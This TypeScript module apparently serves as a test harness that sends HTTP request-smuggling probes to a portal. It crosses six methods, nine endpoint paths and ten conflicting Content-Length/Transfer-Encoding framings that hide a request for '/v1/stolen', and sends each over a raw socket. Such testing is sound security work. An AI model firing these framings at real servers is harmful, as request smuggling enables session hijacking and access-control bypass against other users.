import { connect } from 'node:net';

/** Path that only the request hidden in a body asks for. */
export const STOLEN = '/v1/stolen';
const INNER = `GET ${STOLEN} HTTP/1.1\r\nX: `;
const sized = (length: number) => `Content-Length: ${String(length)}`;
const pieces = `${INNER.length.toString(16)}\r\n${INNER}\r\n0\r\n`;
const PIECES = 'Transfer-Encoding: chunked';

interface Framing {
  headers: string[];
  body: string;
  /** The sender stops sending (`half`), or closes the connection (`whole`), before the body's end. */
  ends?: 'half' | 'whole';
}

/** Ways to frame a body that hides a request. */
export const FRAMINGS = {
  none: { headers: [], body: INNER },
  'no length': { headers: [sized(0)], body: INNER },
  length: { headers: [sized(INNER.length)], body: INNER },
  chunked: { headers: [PIECES], body: `${pieces}\r\n` },
  trailers: { headers: [PIECES, 'Trailer: X'], body: `${pieces}X: y\r\n\r\n` },
  both: { headers: [sized(INNER.length), PIECES], body: `${pieces}\r\n` },
  'a short length': { headers: [sized(3)], body: INNER },
  'a long length': { headers: [sized(INNER.length + 40)], body: INNER, ends: 'half' },
  'broken off': { headers: [PIECES], body: pieces.slice(0, 20), ends: 'half' },
  gone: { headers: [PIECES], body: pieces.slice(0, 20), ends: 'whole' },
} satisfies Record<string, Framing>;
type FramingName = keyof typeof FRAMINGS;

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE'] as const;
/** One address of every class of endpoints. */
export const PLACES = {
  nobody: '/api/v1/nothing',
  bodiless: '/api/v1/me',
  json: '/api/v1/order/edit-item',
  form: '/api/inetstudio/acl-package/v1/users/7/avatar',
  public: '/api/v1/registration',
  session: '/api/session',
  page: '/lk',
  stored: '/media/',
  built: '/icons.svg',
} as const;
type Place = keyof typeof PLACES;

export interface Attack {
  method: (typeof METHODS)[number];
  place: Place;
  framing: FramingName;
}
export const ATTACKS: readonly Attack[] = METHODS.flatMap((method) =>
  (Object.keys(PLACES) as Place[]).flatMap((place) =>
    (Object.keys(FRAMINGS) as FramingName[]).map((framing) => ({ method, place, framing })),
  ),
);

/** Sends one attack with request id `id` over its own connection; returns the first response's status, 0 for none. */
export function strike(
  portal: URL,
  { method, place, framing }: Attack,
  { cookie, id }: { cookie: string; id: string },
): Promise<number> {
  const { headers, body, ends }: Framing = FRAMINGS[framing];
  // the file's name identifies the request
  const path = place === 'stored' ? PLACES.stored + id : PLACES[place];
  const head = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${portal.host}`,
    `Cookie: ${cookie}`,
    `X-Request-Id: ${id}`,
    'Content-Type: application/vnd.api+json',
    ...headers,
  ];
  return new Promise((resolve) => {
    const socket = connect(Number(portal.port), portal.hostname, () => {
      socket.write(`${head.join('\r\n')}\r\n\r\n${body}`, () => {
        if (ends === 'half') socket.end();
        if (ends === 'whole') socket.resetAndDestroy();
      });
    });
    socket.once('data', (part) => {
      resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(part.toString())?.[1] ?? 0));
      socket.destroy();
    });
    socket.once('error', () => socket.destroy());
    socket.once('close', () => resolve(0));
  });
}
